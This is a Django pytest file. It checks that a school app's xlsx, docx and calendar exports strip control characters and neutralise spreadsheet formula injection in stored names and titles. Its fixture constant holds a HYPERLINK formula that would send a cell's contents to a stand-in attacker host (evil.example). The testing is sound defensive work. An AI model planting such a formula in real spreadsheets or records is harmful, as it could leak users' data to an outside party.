"""Stored text that Excel, Word and calendars cannot take as it is (issue #19, items 2 and 3).

Rows are changed with ``QuerySet.update`` so that no input path cleans them: this is what is
already in a database (or what a future input path forgets to clean). Every export must still
open, show the text without its control characters, and show a name such as ``=HYPERLINK(…)``
as text, never as a formula.
"""

from __future__ import annotations

import io
from datetime import date

import pytest
from django.core.management import call_command
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from keshi.appraisal.exports import table_xlsx
from keshi.appraisal.selectors import TableRow
from keshi.checks import services as checks_services
from keshi.checks.tests.factories import inspection
from keshi.cover import exports as cover_exports
from keshi.cover import timetable
from keshi.dispatch.tests.helpers import dispatch
from keshi.org.models import Person
from keshi.org.tests.factories import PersonFactory
from keshi.plans import calendar_services
from keshi.plans.models import CalendarItem, Duty, PlanSection
from keshi.plans.tests.test_summary import FINAL, school_term  # noqa: F401
from keshi.records.models import Activity
from keshi.records.tests.factories import ActivityFactory, kind

pytestmark = pytest.mark.django_db

CONTROL_NAME = "王\u0002老师"
CLEAN_NAME = "王老师"
FORMULA = '=HYPERLINK("http://evil.example/?"&B5,"王老师")'
CONTROL_TITLE = "标题\u0001"
CLEAN_TITLE = "标题"
CONTROLS = {chr(c) for c in range(32)} - set("\t\n\r")


@pytest.fixture
def stored(cast, school_term):  # noqa: F811
    """A teacher named 王\\x02老师, a lead named =HYPERLINK(…), a record titled 标题\\x01, a
    formula planted in the other school (the district's export spans both)."""
    ActivityFactory(person=cast.teacher.person, kind=kind("observation"), date=date(2026, 9, 8))
    ActivityFactory(person=cast.teacher.person, kind=kind("reflection"), date=date(2026, 9, 9))
    Activity.objects.filter(person=cast.teacher.person).update(title=CONTROL_TITLE)
    Person.objects.filter(pk=cast.teacher.person.pk).update(name=CONTROL_NAME)
    Person.objects.filter(pk=cast.lead.person.pk).update(name=FORMULA)
    PersonFactory(org=cast.other_school, name="=1+1", staff_no="-42")
    plan = school_term.plan
    type(plan).objects.filter(pk=plan.pk).update(title=CONTROL_TITLE)
    PlanSection.objects.filter(plan=plan).update(
        body="以立德树人为根本任务\u0001。\u000b深化改革。"
    )
    Duty.objects.filter(plan=plan).update(responsibility="全面负责\u0002")
    CalendarItem.objects.filter(plan=plan).update(title="期末\u0003工作")
    return school_term


def _get(client, user, url, **query):
    client.force_login(user)
    response = client.get(url, query)
    assert response.status_code == 200, (url, response.status_code)
    assert not CONTROLS & set(response["Content-Disposition"]), response["Content-Disposition"]
    return response


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _check_workbook(response, *expected: str) -> list:
    """No formula anywhere, no control character in any text, the cleaned names present."""
    cells = _cells(response if isinstance(response, bytes) else response.content)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula in the export"
    assert not [t for t in texts if CONTROLS & set(t)]
    for text in expected:
        assert any(text in t for t in texts), f"{text!r} missing"
    for cell in cells:
        if cell.value == FORMULA:
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    return cells


def _has_formula_name(cells) -> bool:
    return any(c.value == FORMULA for c in cells)


def test_records_export(client, cast, stored):
    response = _get(client, cast.office, reverse("records:export"))
    _check_workbook(response, CLEAN_TITLE, CLEAN_NAME)


def test_people_export_of_the_school_and_of_the_district(client, cast, stored):
    cells = _check_workbook(_get(client, cast.office, reverse("org:people_export")), CLEAN_NAME)
    assert _has_formula_name(cells)
    cells = _check_workbook(_get(client, cast.district, reverse("org:people_export")), CLEAN_NAME)
    planted = [c for c in cells if c.value in ("=1+1", "-42")]
    assert len(planted) == 2 and all(c.data_type == "s" and c.quotePrefix for c in planted)


def test_roster_export(client, cast, stored):
    url = reverse("roster:export", args=[cast.school.code])
    assert _has_formula_name(_check_workbook(_get(client, cast.office, url), CLEAN_NAME))


def test_compliance_export(client, cast, stored):
    response = _get(client, cast.office, reverse("rules:compliance_export"), at="2026-11-10")
    assert _has_formula_name(_check_workbook(response, CLEAN_NAME))


def test_reimbursement_export(client, cast, stored):
    dispatch(cast, cast.teacher, cast.lead, title=FORMULA)
    response = _get(client, cast.office, reverse("dispatch:reimbursement_xlsx"))
    assert _has_formula_name(_check_workbook(response, CLEAN_NAME))


def test_inspection_export_rectification_sheet(client, cast, stored):
    ins = inspection(cast)
    checks_services.add_rectification(
        inspection=ins, text="补写反思", responsible=cast.teacher.person, due=date(2026, 12, 1)
    )
    checks_services.add_rectification(
        inspection=ins, text="加强批改", responsible=cast.lead.person, due=date(2026, 12, 1)
    )
    ins.rectifications.filter(text="补写反思").update(text=FORMULA + "\u0001")
    response = _get(client, cast.office, reverse("checks:inspection_export", args=[ins.pk]))
    cells = _check_workbook(response, CLEAN_NAME)
    sheet = [c for c in cells if c.parent.title == "整改"]
    assert {c.value for c in sheet} >= {FORMULA, CLEAN_NAME}
    assert all(c.data_type == "s" and c.quotePrefix for c in sheet if c.value == FORMULA)


def _docx_text(response) -> str:
    doc = Document(io.BytesIO(response.content))
    parts = [p.text for p in doc.paragraphs]
    parts += [cell.text for table in doc.tables for row in table.rows for cell in row.cells]
    return "\n".join(parts)


def test_plan_and_summary_docx(client, cast, stored):
    plan = stored.plan
    text = _docx_text(_get(client, cast.office, reverse("plan_documents:plan", args=[plan.pk])))
    assert CLEAN_TITLE in text and "全面负责" in text and "以立德树人为根本任务。" in text
    assert FORMULA in text and not CONTROLS & set(text)
    url = reverse("plan_documents:summary_docx", args=[plan.pk])
    text = _docx_text(_get(client, cast.office, url, at=FINAL.isoformat()))
    assert "期末工作" in text and CLEAN_NAME in text and not CONTROLS & set(text)


def test_calendar_feed(client, cast, stored):
    feed = calendar_services.create_feed(org=cast.school)
    client.logout()
    response = client.get(reverse("itinerary:feed", args=[feed.token]))
    assert response.status_code == 200
    body = response.content.decode()
    assert "期末工作" in body and not CONTROLS & set(body)


def test_the_other_workbooks(cast, stored, tmp_path):
    """Exports reached by pages that need more setup, called directly: the same helper."""
    person = {"staff_no": "-1", "name": CONTROL_NAME}
    counts = [{**person, "substitute": 1, "swap": 0, "total": 1, "homeroom": 0}]
    lesson = {**person, "weekday": 1, "period": 1, "class_name": FORMULA, "subject": "语文"}
    books = [
        cover_exports.counts_xlsx(cast.school, stored.term, counts),
        timetable.write_xlsx(CONTROL_TITLE, [lesson], [{**person, "class_name": "初一(1)班"}]),
        table_xlsx([TableRow(key=1, name=FORMULA)], title=CONTROL_TITLE, first=CONTROL_NAME),
    ]
    out = tmp_path / "c.xlsx"
    call_command(
        "compliance", "--org", "demo", "--at", "2026-11-10", "--format", "xlsx", "-o", str(out)
    )
    books.append(out.read_bytes())
    for content in books:
        cells = _check_workbook(content, CLEAN_NAME)
        assert _has_formula_name(cells) or any(c.value == "-1" and c.quotePrefix for c in cells)
